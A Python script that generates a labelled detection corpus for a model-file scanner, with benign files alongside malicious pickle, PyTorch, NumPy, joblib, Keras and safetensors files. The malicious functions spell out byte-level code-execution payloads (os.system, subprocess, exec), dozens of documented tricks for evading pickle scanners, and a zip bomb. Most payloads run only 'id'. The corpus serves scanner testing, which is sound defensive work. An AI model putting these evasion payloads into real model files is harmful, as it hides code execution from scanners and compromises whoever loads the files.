#!/usr/bin/env python3
"""Generate the scanner detection corpus: one malicious file per known bypass class and
benign files written the way real tools write them.

Nothing is downloaded and nothing here is ever unpickled. Malicious payloads run only `id`
or `echo` if someone loads them by mistake. Pure standard library (`pickle`, `zipfile`,
`struct`, `tarfile`, `zlib`); when NumPy, scikit-learn and joblib are importable (run it with
a venv's python), benign files written by those libraries are added.

Usage: make_corpus.py OUT_DIR
Writes OUT_DIR/malicious/*, OUT_DIR/benign/* and OUT_DIR/manifest.json
({"file": {"label": "malicious"|"benign", "class": ..., "source": ...}}).
"""

import collections
import io
import json
import os
import pickle
import struct
import sys
import tarfile
import types
import zipfile
import zlib

OUT = sys.argv[1] if len(sys.argv) > 1 else "corpus"
MANIFEST = {}


def put(label, name, data, cls, source=""):
    path = os.path.join(OUT, label, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    MANIFEST[f"{label}/{name}"] = {"label": label, "class": cls, "source": source}


# ---------------------------------------------------------------------------------------
# Building blocks (raw opcodes, so that every trick is spelled out byte by byte)
# ---------------------------------------------------------------------------------------

def sbu(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def proto(n):
    return b"\x80" + bytes([n])


CMD = "id"


def reduce_p0(module, name, arg=CMD):
    return f"c{module}\n{name}\n(S'{arg}'\ntR.".encode()


def reduce_p4(module, name, arg=CMD):
    return proto(4) + sbu(module) + sbu(name) + b"\x93" + sbu(arg) + b"\x85R."


class Reduce:
    """An object whose pickle calls func(*args) (what attackers write with __reduce__)."""

    def __init__(self, func, args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def malicious():
    m = lambda name, data, cls, source="": put("malicious", name, data, cls, source)  # noqa: E731

    # --- direct imports, every protocol, every alias ---
    m("os_system_p0.pkl", reduce_p0("os", "system"), "GLOBAL+REDUCE, protocol 0")
    m("posix_system_p2.pkl", proto(2) + b"cposix\nsystem\nX\x02\x00\x00\x00id\x85R.", "os alias posix")
    m("nt_system.pkl", reduce_p0("nt", "system"), "os alias nt (Windows)")
    m("builtin_eval_py2.pkl", reduce_p0("__builtin__", "eval", "__import__('os').system('id')"),
      "Python 2 alias __builtin__ -> builtins")
    m("commands_getoutput_py2.pkl", reduce_p0("commands", "getoutput"), "Python 2 alias commands -> subprocess")
    m("cpickle_loads_py2.pkl", reduce_p0("cPickle", "loads", "cos\\nsystem\\n(S'id'\\ntR."), "Python 2 alias cPickle, nested pickle")
    for p in range(0, 6):
        m(f"reduce_os_system_pickled_p{p}.pkl",
          pickle.dumps(Reduce(os.system, (CMD,)), protocol=p), f"__reduce__ payload written by pickle, protocol {p}")
    m("subprocess_popen.pkl", pickle.dumps(Reduce(__import__("subprocess").Popen, (["id"],)), protocol=4), "subprocess")
    m("builtins_exec.pkl", reduce_p4("builtins", "exec", "import os; os.system('id')"), "builtins.exec")
    m("builtins_getattr_chain.pkl",
      proto(4) + sbu("builtins") + sbu("getattr") + b"\x93" + sbu("builtins") + sbu("__import__") + b"\x93"
      + sbu("os") + b"\x85R" + sbu("system") + b"\x86R" + sbu(CMD) + b"\x85R.",
      "getattr(__import__('os'), 'system')", "fickling GHSA-h4rm")

    # --- STACK_GLOBAL operand tricks ---
    memo_confusion = (proto(4) + b"U\x02osq\x00U\x06systemq\x01" + sbu("torch._utils") + b"\x94"
                      + sbu("_rebuild_tensor_v2") + b"\x94" + b"0000" + b"h\x00h\x01\x93" + sbu(CMD) + b"\x85R.")
    m("stack_global_memo_put_memoize_confusion.pkl", memo_confusion,
      "BINPUT/MEMOIZE mix makes memo[0] look like torch._utils", "picklescan issue #14")
    padded = (proto(4) + sbu("os") + b"\x94" + sbu("system") + b"\x94" + b"00"
              + sbu("collections") + sbu("OrderedDict") + b"00" + b"h\x00h\x01\x93" + sbu(CMD) + b"\x85R.")
    m("stack_global_binget_after_padding.pkl", padded, "operands replayed from memo after padding literals",
      "agent-bom STACK_GLOBAL memo evasion; imaginaryctf safe pickle (picklescan #22)")
    m("stack_global_long_binget.pkl",
      proto(4) + sbu("os") + b"r\x00\x01\x00\x00" + sbu("system") + b"r\x01\x01\x00\x00" + b"00"
      + b"j\x00\x01\x00\x00j\x01\x01\x00\x00\x93" + sbu(CMD) + b"\x85R.", "LONG_BINPUT/LONG_BINGET operands")
    m("stack_global_text_get.pkl",
      proto(4) + sbu("os") + b"p10\n" + sbu("system") + b"p11\n00g10\ng11\n\x93" + sbu(CMD) + b"\x85R.",
      "PUT/GET text memo operands")
    m("stack_global_binstring_operands.pkl",
      proto(4) + b"U\x02osU\x06system\x93" + sbu(CMD) + b"\x85R.", "SHORT_BINSTRING operands decoded to str")
    m("stack_global_dotted_pathlib_os_system.pkl", reduce_p4("pathlib", "os.system"),
      "dotted name resolved by find_class for protocol >= 4")
    m("stack_global_numpy_builtins_eval.pkl",
      bytes.fromhex("80049566000000000000008c056e756d70798c0473697a659394948c056e756d70798c0c5f5f6275696c74696e735f5f93949468017d7d8c0573686170656803738662680168018c046576616c86528c1d5f5f696d706f72745f5f28226f7322292e73797374656d28226964222985522e"),
      "numpy.__builtins__ through an allow-listed module + BUILD setattr", "modelscan issue #330")
    m("unicode_escape_names.pkl", b"Vo\\u0073\nVsyst\\u0065m\n\x93(Vid\ntR.", "raw-unicode-escape UNICODE operands")
    m("string_escape_names.pkl", b"S'o\\x73'\nS'sy\\163tem'\n\x93(S'id'\ntR.", "escaped STRING operands")

    # --- other call opcodes ---
    m("inst_opcode.pkl", b"(S'id'\nisubprocess\ncheck_output\n.", "INST")
    m("obj_opcode_pty_spawn.pkl", b"(cpty\nspawn\nS\"id\"\no.", "OBJ with pty.spawn", "fickling PR #108")
    m("newobj_popen.pkl", proto(2) + b"csubprocess\nPopen\n]X\x02\x00\x00\x00ida\x85\x81.", "NEWOBJ")
    m("newobj_ex_popen.pkl", proto(4) + sbu("subprocess") + sbu("Popen") + b"\x93]" + sbu("id") + b"a\x85}\x92.", "NEWOBJ_EX")
    m("ext_code.pkl", proto(2) + b"\x82\x01X\x02\x00\x00\x00id\x85R.", "EXT1 extension code")
    m("build_setattr_numpy_prod.pkl",
      proto(5) + b"cnumpy\nprod\nN(Va\nVos\nd\x86bN(Vb\nVsystem\nd\x86b0cnumpy\nprod.a\np0\ncnumpy\nprod.b\np1\n00g0\ng1\n\x93Vid\n\x85R.",
      "BUILD setattr on a function, then STACK_GLOBAL of its attributes", "modelscan issue #85")
    m("build_dunder_setstate.pkl",
      proto(2) + b"ccollections\nOrderedDict\n)RN}X\x0c\x00\x00\x00__setstate__cos\nsystem\ns\x86b.", "BUILD state with __setstate__")
    m("append_on_global.pkl", proto(2) + b"cos\nsystem\nX\x02\x00\x00\x00ida.", "APPEND calling a global's method")

    # --- parser differentials ---
    m("int_base_prefix_before_payload.pkl", b"I0x10\n0" + reduce_p0("os", "system"),
      "INT with a base prefix that pickletools rejects but the unpickler accepts")
    m("int_leading_zero_octal.pkl", b"I010\n0" + reduce_p0("os", "system"), "INT with C-style octal")
    m("payload_then_broken_stream.pkl", b"cos\nsystem\n(S'id'\ntR\xff\xfe garbage", "parse error after the payload")
    m("payload_then_no_stop.pkl", b"cos\nsystem\n(S'id'\ntR", "payload without STOP")
    m("benign_then_malicious_pickle.pkl", pickle.dumps({"a": 1}, protocol=2) + reduce_p0("os", "system"),
      "second concatenated pickle")
    frame = proto(4) + b"\x95" + struct.pack("<Q", 3) + sbu("os") + sbu("system") + b"\x93" + sbu(CMD) + b"\x85R."
    m("frame_boundary_crossing.pkl", frame, "FRAME length that splits an opcode (C and Python unpicklers differ)")
    m("garbage_then_payload.pkl", proto(2) + b"N\xfe" + reduce_p0("os", "system"), "payload behind an invalid opcode")

    # --- resolvers and wrappers ---
    m("pkgutil_resolve_name.pkl", proto(4) + sbu("pkgutil") + sbu("resolve_name") + b"\x93" + sbu("os:system")
      + b"\x85R" + sbu(CMD) + b"\x85R.", "pkgutil.resolve_name universal bypass", "picklescan GHSA-vvpj-8cmc-gx39")
    m("importlib_import_module.pkl",
      proto(4) + sbu("importlib") + sbu("import_module") + b"\x93" + sbu("os") + b"\x85R\x94"
      + sbu("builtins") + sbu("getattr") + b"\x93h\x00" + sbu("system") + b"\x86R" + sbu(CMD) + b"\x85R.",
      "importlib.import_module + getattr", "modelscan issue #331")
    m("ufunc_reconstruct_resolver.pkl", proto(2) + b"cnumpy.core\n_ufunc_reconstruct\nX\x02\x00\x00\x00osX\x06\x00\x00\x00system\x86RX\x02\x00\x00\x00id\x85R.",
      "numpy _ufunc_reconstruct resolving os.system")
    m("operator_attrgetter.pkl", reduce_p4("operator", "attrgetter", "system"), "operator.attrgetter", "picklescan GHSA-m273-6v24-x4m4")
    m("operator_methodcaller.pkl", reduce_p4("_operator", "methodcaller", "system"), "_operator.methodcaller", "picklescan GHSA-955r-x9j8-7rhh")
    m("functools_partial.pkl", proto(4) + sbu("functools") + sbu("partial") + b"\x93" + sbu("os") + sbu("system") + b"\x93"
      + sbu(CMD) + b"\x86R)R.", "functools.partial wrapper")
    m("pydoc_locate.pkl", reduce_p4("pydoc", "locate", "os.system"), "pydoc.locate resolver")

    # --- nested deserialisers ---
    m("pickle_loads_nested.pkl", pickle.dumps(Reduce(pickle.loads, (reduce_p0("os", "system"),)), protocol=4),
      "pickle.loads of an embedded pickle", "modelscan issue #267")
    m("marshal_loads.pkl", reduce_p4("marshal", "loads", "x"), "marshal.loads code object", "picklescan PR #74")
    m("numpy_load_nested.pkl", reduce_p4("numpy", "load", "/tmp/evil.npy"), "numpy.load nested")
    m("joblib_load_nested.pkl", reduce_p4("joblib", "load", "/tmp/evil.joblib"), "joblib.load nested")
    m("sklearn_externals_joblib_load.pkl", reduce_p4("sklearn.externals.joblib", "load", "/tmp/x"), "re-exported joblib.load")
    m("torch_load_nested.pkl", reduce_p4("torch", "load", "/tmp/evil.pt"), "torch.load nested")
    m("torch_storage_load_from_bytes.pkl", proto(2) + b"ctorch.storage\n_load_from_bytes\nC\x04abcd\x85R.", "torch.storage._load_from_bytes")
    m("shelve_open.pkl", reduce_p4("shelve", "open", "/tmp/db"), "shelve nested pickle db")
    m("dill_loads.pkl", reduce_p4("dill", "loads", "x"), "dill nested")

    # --- alternative execution primitives from advisories ---
    for mod, name, src in [
        ("runpy", "_run_code", "runpy"),
        ("code", "InteractiveInterpreter", "code"),
        ("timeit", "timeit", "picklescan GHSA-v7x6-rv5q-mhwc"),
        ("cProfile", "run", "picklescan GHSA-46h3-79wf-xr6c"),
        ("profile", "run", "profile"),
        ("pdb", "run", "picklescan GHSA-4675-36f9-wf6r"),
        ("bdb", "Bdb", "bdb"),
        ("trace", "Trace", "trace"),
        ("doctest", "debug_script", "doctest"),
        ("pip", "main", "picklescan GHSA-vqmv-47xg-9wpr"),
        ("ensurepip", "_run_pip", "picklescan GHSA-xp4f-hrf8-rxw7"),
        ("venv", "create", "venv"),
        ("idlelib.pyshell", "ModifiedInterpreter", "picklescan GHSA-r8g5-cgf2-4m4m"),
        ("lib2to3.pgen2.pgen", "generate_grammar", "lib2to3"),
        ("torch.hub", "load", "torch gadget"),
        ("torch.utils.collect_env", "run", "modelscan issue #338"),
        ("torch.jit", "load", "TorchScript loader"),
        ("multiprocessing.util", "spawnv_passfds", "modelscan issue #338"),
        ("asyncio.unix_events", "_UnixSubprocessTransport", "CVE-2025-10157"),
        ("_posixsubprocess", "fork_exec", "subprocess internals"),
        ("ctypes", "CDLL", "ctypes"),
        ("webbrowser", "open", "webbrowser"),
        ("urllib.request", "urlopen", "network"),
        ("socket", "create_connection", "network"),
        ("requests", "get", "network (requests)"),
        ("http.client", "HTTPSConnection", "network (http)"),
        ("smtplib", "SMTP", "network (smtplib)"),
        ("ftplib", "FTP", "network (ftplib)"),
        ("shutil", "rmtree", "files"),
        ("tempfile", "mkstemp", "files"),
        ("_io", "FileIO", "CVE-2025-10155"),
        ("builtins", "open", "files"),
        ("distutils.file_util", "write_file", "CVE-2025-10155"),
        ("mailcap", "findmatch", "modelscan PR #346"),
        ("_interpreters", "run_string", "fickling GHSA-6ggj-6f2q-f7mx"),
        ("mlflow.projects.backend.local", "_run_entry_point", "modelscan issue #338"),
        ("pandas.io.parsers.readers", "read_csv", "modelscan issue #338"),
        ("sys", "exit", "sys"),
        ("numpy.f2py.crackfortran", "getlincoef", "fickling PR #210"),
        ("numpy.testing._private.utils", "runstring", "numpy.testing exec"),
        ("logging.config", "listen", "logging.config eval"),
        ("somepackage.utils", "system", "unknown module, dangerous name"),
    ]:
        m(f"gadget_{mod.replace('.', '_')}_{name}.pkl", reduce_p4(mod, name), f"{mod}.{name}", src)

    # --- the same payload under names a scanner might skip ---
    m("disguised_as.json", reduce_p0("os", "system"), "pickle named .json (content sniffing)")
    m("disguised_as_model.safetensors", reduce_p4("os", "system"), "pickle named .safetensors")
    m("no_extension", reduce_p4("subprocess", "call"), "pickle without extension")

    # --- PyTorch zip checkpoints ---
    payload = pickle.dumps(Reduce(os.system, (CMD,)), protocol=2)
    m("pt_zip_payload.pt", torch_zip(payload), "torch zip with malicious data.pkl")
    m("pt_zip_deflated.pt", torch_zip(payload, deflate=True), "deflated data.pkl (miniz accepts)")
    m("pt_zip_name_mismatch.pt", torch_zip(payload, local_name=b"archive/version"),
      "local header name differs from central directory", "picklescan zip parsing bypasses")
    m("pt_zip_bad_crc.pt", torch_zip(payload, bad_crc=True), "bad CRC: zipfile refuses, torch loads", "CVE-2025-10156")
    m("pt_zip_encrypted_flag.pt", torch_zip(payload, flags=0x0001), "encryption flag bit set on a stored member")
    m("pt_zip_odd_prefix.pt", torch_zip(payload, prefix="model_x"), "archive prefix other than 'archive'")
    m("pt_zip_renamed_pickle.pt", torch_zip(payload, pkl_name="data.bin"), "pickle member without .pkl name")
    m("pt_zip_no_central_directory.pt", torch_zip(payload, central=False), "local headers only")
    m("pt_zip_extension_bin.bin", torch_zip(payload), "torch zip named .bin")
    m("pt_zip_constants_pkl.pt", torch_zip(torch_state_dict_pickle(), extra={"archive/constants.pkl": payload}),
      "payload in TorchScript constants.pkl")
    m("pt_zip_bomb.pt", torch_zip(torch_state_dict_pickle(), extra={"archive/data/2": b"\0" * (64 << 20)}, deflate=True),
      "a 64 MiB member of zeros compressed ~1000x (zip bomb)")
    # --- legacy torch ---
    m("pt_legacy_payload_in_model.pt", torch_legacy(model=payload), "legacy stacked pickles, payload in the model pickle")
    m("pt_legacy_payload_in_sysinfo.pt", torch_legacy(sys_info=payload), "payload in the sys_info pickle")
    m("pt_legacy_payload_in_keys.pt", torch_legacy(keys=payload), "payload in the storage-keys pickle")
    m("pt_tar_payload.tar", torch_tar(payload), "legacy tar checkpoint, payload in `pickle`")
    # --- NumPy and joblib ---
    m("npy_object_payload.npy", npy("|O", (1,), payload_pickle=pickle.dumps(Reduce(os.system, (CMD,)), protocol=3)),
      "object .npy whose pickle runs os.system")
    m("npz_object_payload.npz", npz({"arr_0.npy": npy("<f8", (2,), data=b"\0" * 16),
                                     "evil.npy": npy("|O", (1,), payload_pickle=payload)}), "object array in npz")
    m("joblib_payload_after_array.joblib", joblib_like(tail_payload=True), "payload after inline array bytes")
    m("joblib_zlib_payload.joblib", zlib.compress(payload, 3), "zlib-compressed pickle (joblib compress=True)")


# ---------------------------------------------------------------------------------------
# Containers written the way PyTorch, NumPy and joblib write them
# ---------------------------------------------------------------------------------------

def fake_modules():
    """Register stand-ins for torch modules so that pickle writes the same globals as
    torch.save does (pickle checks the object is reachable under its name)."""
    if "torch._utils" in sys.modules and getattr(sys.modules["torch"], "_rampart_fake", False):
        return
    torch = types.ModuleType("torch")
    torch._rampart_fake = True
    utils = types.ModuleType("torch._utils")

    def _rebuild_tensor_v2(*a):  # noqa: ARG001
        raise RuntimeError("never called")

    _rebuild_tensor_v2.__module__ = "torch._utils"
    _rebuild_tensor_v2.__qualname__ = "_rebuild_tensor_v2"
    utils._rebuild_tensor_v2 = _rebuild_tensor_v2

    class FloatStorage:  # noqa: D401
        pass

    FloatStorage.__module__ = "torch"
    FloatStorage.__qualname__ = "FloatStorage"
    torch.FloatStorage = FloatStorage
    torch._utils = utils
    sys.modules["torch"] = torch
    sys.modules["torch._utils"] = utils


class FakeTensor:
    def __init__(self, key, shape):
        self.key, self.shape = key, shape

    def __reduce__(self):
        fake_modules()
        storage = FakeStorage(self.key, int(__import__("math").prod(self.shape)))
        stride = tuple(int(__import__("math").prod(self.shape[i + 1:])) for i in range(len(self.shape)))
        return (sys.modules["torch._utils"]._rebuild_tensor_v2,
                (storage, 0, self.shape, stride, False, collections.OrderedDict()))


class FakeStorage:
    def __init__(self, key, numel):
        self.key, self.numel = key, numel


class TorchPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, FakeStorage):
            return ("storage", sys.modules["torch"].FloatStorage, obj.key, "cpu", obj.numel)
        return None


def torch_state_dict_pickle(protocol=2):
    fake_modules()
    sd = collections.OrderedDict()
    sd["linear.weight"] = FakeTensor("0", (4, 3))
    sd["linear.bias"] = FakeTensor("1", (4,))
    buf = io.BytesIO()
    try:
        TorchPickler(buf, protocol=protocol).dump(sd)
    finally:
        # Other libraries (scipy) probe sys.modules["torch"]; do not leave the stand-in.
        sys.modules.pop("torch", None)
        sys.modules.pop("torch._utils", None)
    return buf.getvalue()


def torch_zip(data_pkl, deflate=False, local_name=None, bad_crc=False, flags=0, prefix="archive",
              pkl_name="data.pkl", central=True, extra=None):
    members = [(f"{prefix}/{pkl_name}", data_pkl), (f"{prefix}/byteorder", b"little"),
               (f"{prefix}/data/0", b"\0" * 48), (f"{prefix}/data/1", b"\0" * 16)]
    for k, v in (extra or {}).items():
        members.append((k, v))
    members += [(f"{prefix}/version", b"3\n"), (f"{prefix}/.data/serialization_id", b"1234567890")]
    return raw_zip(members, deflate_first=deflate, local_name=local_name, bad_crc=bad_crc, flags=flags,
                   central=central, deflate_all=deflate and extra is not None)


def issue18():
    """The classes of issue 18: files that an earlier scanner called clean, each generated
    here (nothing downloaded). Payloads run `id` if loaded by mistake."""
    m = lambda name, data, cls, source="": put("malicious", name, data, cls, source)  # noqa: E731
    src = "issue 18"
    # Unrecognised is not clean: named like a model, no analyser accepts the bytes.
    m("unrecognised_named_model.pt", b"\x00\x01\x02not a format any analyser knows", "unrecognised .pt is an error", src)
    st = json.dumps({"a": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}}).encode()
    m("safetensors_header_past_eof.safetensors", struct.pack("<Q", 1 << 20) + st, "safetensors header length past EOF", src)
    m("safetensors_header_absurd.bin", struct.pack("<Q", 1 << 40) + st, "safetensors header length absurd", src)
    # Safetensors layout differentials: the real loader refuses them, scanners read them.
    m("safetensors_trailing_pickle.safetensors",
      struct.pack("<Q", len(st)) + st + b"\0" + reduce_p4("os", "system"), "hidden trailing data", src)
    oob = json.dumps({"a": {"dtype": "U8", "shape": [64], "data_offsets": [0, 64]}}).encode()
    m("safetensors_out_of_bounds.safetensors", struct.pack("<Q", len(oob)) + oob + b"\0" * 8, "offsets outside data", src)
    # Allow-listed packages re-exporting dangerous callables (real names in scikit-learn
    # 1.9 and NumPy 2; see crates/rampart-scan/data/pickle_names.toml).
    for mod, name, arg in [("sklearn.utils._testing", "check_output", "id"),
                           ("sklearn.datasets._base", "urlretrieve", "http://127.0.0.1/x"),
                           ("sklearn.datasets._lfw", "remove", "/tmp/x"),
                           ("numpy.lib._npyio_impl", "load", "/tmp/evil.npy"),
                           ("numpy.lib._npyio_impl", "savetxt", "/tmp/x"),
                           ("numpy._core.memmap", "memmap", "/tmp/x")]:
        m(f"reexport_{mod.replace('.', '_')}_{name}.pkl", reduce_p4(mod, name, arg), f"{mod}.{name} inside an allowed package", src)
    # Parser differentials in pickles.
    frame_cross = proto(4) + b"\x95" + struct.pack("<Q", 3) + sbu("posix") + sbu("system") + b"\x93" + sbu(CMD) + b"\x85R."
    m("frame_opcode_crosses_boundary.pkl", frame_cross, "an opcode crosses a FRAME boundary", src)
    m("memo_get_unset_slot.pkl", proto(2) + b"h\x07" + b"cposix\nsystem\n" + b"h\x07\x85R.", "memo read before write", src)
    # Legacy PyTorch with the magic number as INT text in base 16, payload in the model pickle.
    magic_hex = b"I" + hex(MAGIC).encode() + b"\n."
    m("pt_legacy_magic_hex_int.pt", magic_hex + pickle.dumps(1001, protocol=2) + pickle.dumps({}, protocol=2)
      + reduce_p0("os", "system") + pickle.dumps([], protocol=2), "legacy magic as INT text in base 16", src)
    # Keras 3: builtins function reference; .h5 config with the keys in another order.
    cfg = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [
        {"module": "keras.layers", "class_name": "Dense", "config": {"units": 1, "activation": {
            "module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}}}]}}
    m("keras_builtins_function.keras", raw_zip([("metadata.json", json.dumps({"keras_version": "3.15.1"}).encode()),
                                                ("config.json", json.dumps(cfg).encode())]),
      "builtins function reference in a Keras 3 config", src)
    h5cfg = '{"config": {"layers": [{"module": "os", "class_name": "system", "config": {}}]}, "class_name": "Sequential"}'
    m("keras_h5_reordered_keys.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 88 + b"keras_version\0\0\0model_config\0\0\0\0"
      + h5cfg.encode() + b"\0" * 64, "h5 model_config with class_name last", src)
    # NumPy headers read like ast.literal_eval: escapes and duplicate keys.
    obj = reduce_p0("os", "system")
    for name, header in [("npy_descr_hex_escape.npy", "{'descr': '|\\x4f', 'fortran_order': False, 'shape': (1,), }"),
                         ("npy_duplicate_descr.npy", "{'descr': '<f8', 'fortran_order': False, 'shape': (1,), 'descr': '|O'}")]:
        pad = 64 - (10 + len(header) + 1) % 64
        h = (header + " " * (pad % 64) + "\n").encode()
        m(name, b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h + obj, "npy header differential", src)
    # Deny-list breadth: file writers and sockets.
    for mod, name in [("logging", "FileHandler"), ("logging.handlers", "RotatingFileHandler"),
                      ("shutil", "rmtree"), ("tempfile", "mkstemp"), ("socket", "create_connection"),
                      ("gzip", "open")]:
        m(f"writer_{mod.replace('.', '_')}_{name}.pkl", reduce_p4(mod, name, "/tmp/x"), f"{mod}.{name}", src)


def raw_zip(members, deflate_first=False, local_name=None, bad_crc=False, flags=0, central=True, deflate_all=False):
    """A zip written by hand so that header fields can disagree the way attackers make them."""
    out, cd = bytearray(), bytearray()
    for i, (name, data) in enumerate(members):
        nb = name.encode()
        deflate = deflate_all or (deflate_first and i == 0)
        if deflate:
            c = zlib.compressobj(9, zlib.DEFLATED, -15)
            payload = c.compress(data) + c.flush()
        else:
            payload = data
        method = 8 if deflate else 0
        crc = zlib.crc32(data) ^ (0xFFFFFFFF if (bad_crc and i == 0) else 0)
        fl = flags if i == 0 else 0
        lname = local_name if (local_name and i == 0) else nb
        off = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, fl, method, 0, 0x21, crc, len(payload), len(data), len(lname), 0)
        out += lname + payload
        cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, fl, method, 0, 0x21, crc, len(payload), len(data),
                          len(nb), 0, 0, 0, 0, 0, off) + nb
    if central:
        cdo = len(out)
        out += cd + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(cd), cdo, 0)
    return bytes(out)


MAGIC = 0x1950A86A20F9469CFC6C


def torch_legacy(model=None, sys_info=None, keys=None):
    out = pickle.dumps(MAGIC, protocol=2) + pickle.dumps(1001, protocol=2)
    out += sys_info or pickle.dumps({"protocol_version": 1001, "little_endian": True,
                                     "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    out += model or torch_state_dict_pickle()
    out += keys or pickle.dumps(["0", "1"], protocol=2)
    for numel in (12, 4):  # storages: int64 element count, then float32 data
        out += struct.pack("<q", numel) + b"\x00\x00\x80\x3f" * numel
    return out


def torch_tar(model_pickle):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in [("sys_info", pickle.dumps({"protocol_version": 1000}, protocol=2)),
                           ("pickle", model_pickle),
                           ("tensors", pickle.dumps(0, protocol=2)),
                           ("storages", pickle.dumps(0, protocol=2))]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def npy(descr, shape, data=b"", payload_pickle=None):
    header = "{'descr': %r, 'fortran_order': False, 'shape': %r, }" % (descr, shape)
    pad = 64 - (10 + len(header) + 1) % 64
    header = header + " " * (pad % 64) + "\n"
    body = payload_pickle if payload_pickle is not None else data
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1") + body


def npz(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for k, v in members.items():
            z.writestr(k, v)
    return buf.getvalue()


def joblib_like(tail_payload=False):
    """A joblib stream as joblib >= 1.2 writes it: a NumpyArrayWrapper built with BUILD,
    then one padding-length byte, 0xFF padding and the array bytes inline; optionally a
    payload in the opcodes after the array."""
    dtype = (b"cnumpy\ndtype\n" + sbu("f8") + b"\x89\x88\x87R"
             + b"(K\x03" + sbu("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb")
    state = (b"}(" + sbu("subclass") + b"cnumpy\nndarray\n" + sbu("shape") + b"K\x03\x85"
             + sbu("order") + sbu("C") + sbu("dtype") + dtype + sbu("allow_mmap") + b"\x88"
             + sbu("numpy_array_alignment_bytes") + b"K\x10u")
    head = proto(4) + b"}" + sbu("w") + b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81" + state + b"b"
    pad = (16 - (len(head) + 1) % 16) % 16
    array = bytes([pad]) + b"\xff" * pad + struct.pack("<3d", 1.0, 2.0, 3.0)
    tail = b"s"
    if tail_payload:
        tail += sbu("p") + sbu("os") + sbu("system") + b"\x93" + sbu(CMD) + b"\x85Rs"
    return head + array + tail + b"."


# ---------------------------------------------------------------------------------------
# Benign files
# ---------------------------------------------------------------------------------------

def benign():
    b = lambda name, data, cls, source="": put("benign", name, data, cls, source)  # noqa: E731
    data = {"weights": [0.1, 0.2], "name": "model", "epochs": 3, "ok": True, "none": None,
            "nested": collections.OrderedDict(a=(1, 2), b={3, 4}), "blob": b"\x00\x01" * 10}
    for p in range(0, 6):
        b(f"python_data_p{p}.pkl", pickle.dumps(data, protocol=p), f"stdlib pickle protocol {p}")
    b("two_pickles.pkl", pickle.dumps([1, 2], protocol=4) + pickle.dumps({"x": 1}, protocol=4), "two concatenated pickles")
    b("pt_zip_state_dict.pt", torch_zip(torch_state_dict_pickle()), "torch.save-style zip state dict")
    b("pt_zip_state_dict_p4.pt", torch_zip(torch_state_dict_pickle(protocol=4)), "zip state dict, protocol 4")
    b("pt_legacy_state_dict.pt", torch_legacy(), "legacy stacked pickles state dict")
    b("pt_tar_state_dict.tar", torch_tar(torch_state_dict_pickle()), "legacy tar checkpoint")
    b("npy_float.npy", npy("<f8", (2, 2), data=struct.pack("<4d", 1, 2, 3, 4)), "float .npy")
    b("npz_floats.npz", npz({"a.npy": npy("<f4", (3,), data=b"\0" * 12), "b.npy": npy("<i8", (1,), data=b"\0" * 8)}), "npz")
    b("joblib_like_array.joblib", joblib_like(), "joblib-style inline array")
    b("text_readme.txt", b"This is a model card.\nIt is not a pickle.\n", "text")
    b("json_config.json", json.dumps({"hidden_size": 768}).encode(), "json")
    try:
        import numpy as np
    except ImportError:
        return
    arr = np.arange(12, dtype=np.float32).reshape(3, 4)
    with io.BytesIO() as f:
        np.save(f, arr)
        b("numpy_save_float32.npy", f.getvalue(), "np.save", f"numpy {np.__version__}")
    with io.BytesIO() as f:
        np.save(f, np.array([{"a": 1}, "text", 3], dtype=object), allow_pickle=True)
        b("numpy_save_object.npy", f.getvalue(), "np.save object array")
    with io.BytesIO() as f:
        np.savez_compressed(f, a=arr, b=np.ones(5))
        b("numpy_savez_compressed.npz", f.getvalue(), "np.savez_compressed")
    b("numpy_array_pickle_p2.pkl", pickle.dumps(arr, protocol=2), "ndarray pickled (protocol 2)")
    b("numpy_array_pickle_p5.pkl", pickle.dumps({"a": arr, "rng": np.random.RandomState(0)}, protocol=5),
      "ndarray + RandomState pickled (protocol 5)")
    try:
        import joblib
        import sklearn
        from sklearn.datasets import make_classification
        from sklearn.ensemble import RandomForestClassifier
        from sklearn.feature_extraction.text import TfidfVectorizer
        from sklearn.linear_model import LogisticRegression
        from sklearn.pipeline import make_pipeline
        from sklearn.preprocessing import FunctionTransformer, StandardScaler
        from sklearn.svm import SVC
    except ImportError:
        return
    X, y = make_classification(n_samples=60, n_features=6, random_state=0)
    models = {
        "logreg": LogisticRegression().fit(X, y),
        "forest": RandomForestClassifier(n_estimators=3, random_state=0).fit(X, y),
        "pipeline": make_pipeline(StandardScaler(), SVC()).fit(X, y),
        "log1p_pipeline": make_pipeline(FunctionTransformer(np.log1p), LogisticRegression()).fit(abs(X), y),
        "tfidf": TfidfVectorizer().fit(["a model card", "another document"]),
    }
    ver = f"scikit-learn {sklearn.__version__}, joblib {joblib.__version__}"
    for name, model in models.items():
        b(f"sklearn_{name}.pkl", pickle.dumps(model), "scikit-learn via pickle", ver)
        for compress in (0, 3):
            with io.BytesIO() as f:
                joblib.dump(model, f, compress=compress)
                b(f"sklearn_{name}_joblib_c{compress}.joblib", f.getvalue(), f"scikit-learn via joblib compress={compress}", ver)
    with io.BytesIO() as f:
        joblib.dump({"a": arr, "objs": np.array([1, "x"], dtype=object)}, f)
        b("joblib_arrays_and_objects.joblib", f.getvalue(), "joblib with numeric and object arrays", ver)
    # Issue 18: what real tools write that names a wrapper, judged by what it calls.
    import datetime
    import functools
    import zoneinfo

